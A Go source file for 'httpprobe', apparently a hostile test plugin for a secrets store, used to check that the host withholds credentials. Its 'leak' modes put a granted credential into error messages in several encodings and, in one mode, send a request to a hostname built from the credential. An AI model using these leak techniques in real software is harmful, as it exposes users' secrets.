//go:build wasip1

// Command httpprobe is a test store that keeps secrets like the built-in
// filestore (in its store.path) but asks an HTTP backend first, through the
// http capability, as its configuration says ([plugins.NAME] config):
//
//	url         GET and CREATE ask it first (GET url; CREATE POSTs to
//	            url + "/auth")
//	url2        asked when url is UNAVAILABLE (a server that did not answer
//	            in its time budget, refused the connection or failed TLS):
//	            the host ends each request early enough for this failover to
//	            answer before the call's deadline
//	credential  the name of the granted credential CREATE sends as
//	            "password" in a JSON body, like etcd's
//	            /v3/auth/authenticate (default "password"; not granted: no
//	            password is sent)
//	leak        "error": CREATE fails with a message quoting the credential
//	            (the host must withhold it); "upper", "basic", "urlesc",
//	            "json": the same with the credential upper-cased, in an
//	            Authorization: Basic header of base64("flyte:"+credential),
//	            URL-escaped, JSON-escaped; "url": CREATE asks a host named
//	            after the credential (the host's denial must not show it)
//
// When the backend answers 2xx, GET and CREATE go on in the directory;
// a 401 or 403 fails with PERMISSION_DENIED; any other HTTP status with
// UNAVAILABLE; a request the host refused fails with the host's status.
// LIST, UPDATE, DELETE and the meta operations use the directory alone.
// Without url, httpprobe is a filestore. See host/httpgrant and the
// hostile_http testscript.
package main

import (
	"bytes"
	"encoding/base64"
	"strconv"

	"github.com/flytesecrets/flyte/abi"
	"github.com/flytesecrets/flyte/abi/guest"
	"github.com/flytesecrets/flyte/plugins/filestore"
)

type probe struct {
	*filestore.Store
	urls             []string
	credential, leak string
}

// ask sends method to each endpoint in turn (path appended), going on to
// the next only when one is UNAVAILABLE and time is left.
func (p *probe) ask(method, path string, body []byte) error {
	var err error
	for i, u := range p.urls {
		if i > 0 && guest.TimeLeft() == 0 {
			break
		}
		req := &abi.HTTPRequest{Method: method, URL: u + path, Body: body}
		if body != nil {
			req.Headers = []abi.HTTPHeader{{Name: "Content-Type", Value: []byte("application/json")}}
		}
		var resp *abi.HTTPResponse
		resp, err = guest.HostHTTP().Do(req)
		switch {
		case err == nil:
			return status(resp.Status)
		case abi.StatusOf(err) != abi.Unavailable:
			return err
		}
	}
	return err
}

// status maps the backend's HTTP status to the store's answer.
func status(code uint32) error {
	switch {
	case code >= 200 && code < 300:
		return nil
	case code == 401 || code == 403:
		return abi.Errorf(abi.PermissionDenied, "the backend refused the credential (HTTP ", strconv.Itoa(int(code)), ")")
	}
	return abi.Errorf(abi.Unavailable, "the backend answered HTTP ", strconv.Itoa(int(code)))
}

func (p *probe) Get(s abi.Scope, key string) (*abi.Record, error) {
	if err := p.ask("GET", "", nil); err != nil {
		return nil, err
	}
	return p.Store.Get(s, key)
}

func (p *probe) Create(r *abi.Record) (*abi.Record, error) {
	if err := p.beforeCreate(); err != nil {
		return nil, err
	}
	return p.Store.Create(r)
}

// CreateIf is the guarded create the host sends a 1.3 store (the embedded
// filestore is guest.Fenced): it asks the backend first, as Create does.
func (p *probe) CreateIf(r *abi.Record, g abi.Guard) (*abi.Record, error) {
	if err := p.beforeCreate(); err != nil {
		return nil, err
	}
	return p.Store.CreateIf(r, g)
}

// beforeCreate is what CREATE asks the backend, and the leaks it tries.
func (p *probe) beforeCreate() error {
	if len(p.urls) > 0 {
		cred, err := guest.HostHTTP().Credential(p.credential)
		if err != nil && abi.StatusOf(err) != abi.NotFound {
			return err
		}
		cred = bytes.TrimSpace(cred)
		switch p.leak {
		case "error":
			return abi.Errorf(abi.Internal, "the backend said: bad password ", string(cred))
		case "upper":
			return abi.Errorf(abi.Internal, "the backend said: bad password ", string(bytes.ToUpper(cred)))
		case "basic":
			return abi.Errorf(abi.Internal, "the backend said: 401 for Authorization: Basic ", base64.StdEncoding.EncodeToString(append([]byte("flyte:"), cred...)))
		case "urlesc":
			return abi.Errorf(abi.Internal, "the backend said: bad request /auth?password=", urlEscape(cred))
		case "json":
			return abi.Errorf(abi.Internal, "the backend said: bad body ", string(authBody(cred)))
		case "url":
			_, err := guest.HostHTTP().Do(&abi.HTTPRequest{Method: "GET", URL: "https://" + string(cred) + ".example/"})
			return err
		}
		if err := p.ask("POST", "/auth", authBody(cred)); err != nil {
			return err
		}
	}
	return nil
}

// authBody is {"name":"flyte","password":"CRED"} (without package
// encoding/json, which would double the guest's size).
func authBody(cred []byte) []byte {
	b := []byte(`{"name":"flyte"`)
	if cred != nil {
		b = append(b, `,"password":`...)
		b = jsonString(b, cred)
	}
	return append(b, '}')
}

// urlEscape is s with every byte but a letter or digit %XX-escaped.
func urlEscape(s []byte) string {
	const hex = "0123456789ABCDEF"
	var b []byte
	for _, c := range s {
		if 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' {
			b = append(b, c)
		} else {
			b = append(b, '%', hex[c>>4], hex[c&15])
		}
	}
	return string(b)
}

// jsonString appends s as a JSON string (RFC 8259, section 7).
func jsonString(b, s []byte) []byte {
	const hex = "0123456789abcdef"
	b = append(b, '"')
	for _, c := range s {
		switch {
		case c == '"' || c == '\\':
			b = append(b, '\\', c)
		case c < 0x20:
			b = append(b, '\\', 'u', '0', '0', hex[c>>4], hex[c&15])
		default:
			b = append(b, c)
		}
	}
	return append(b, '"')
}

var info = guest.Info{Name: "httpprobe", Version: "0.0.1", Summary: "a store that asks an http backend first", Capabilities: []string{"fs", "http"}}

func init() {
	p := &probe{Store: filestore.New(guest.HostFS()), credential: "password"}
	var cfg abi.PluginConfig
	_ = abi.Unmarshal(guest.Config(), &cfg)
	var url, url2 string
	for _, kv := range cfg.Entries {
		switch kv.Key {
		case "url":
			url = kv.Value
		case "url2":
			url2 = kv.Value
		case "credential":
			p.credential = kv.Value
		case "leak":
			p.leak = kv.Value
		}
	}
	for _, u := range []string{url, url2} {
		if u != "" {
			p.urls = append(p.urls, u)
		}
	}
	guest.ServeStore(info, p)
}

func main() {}
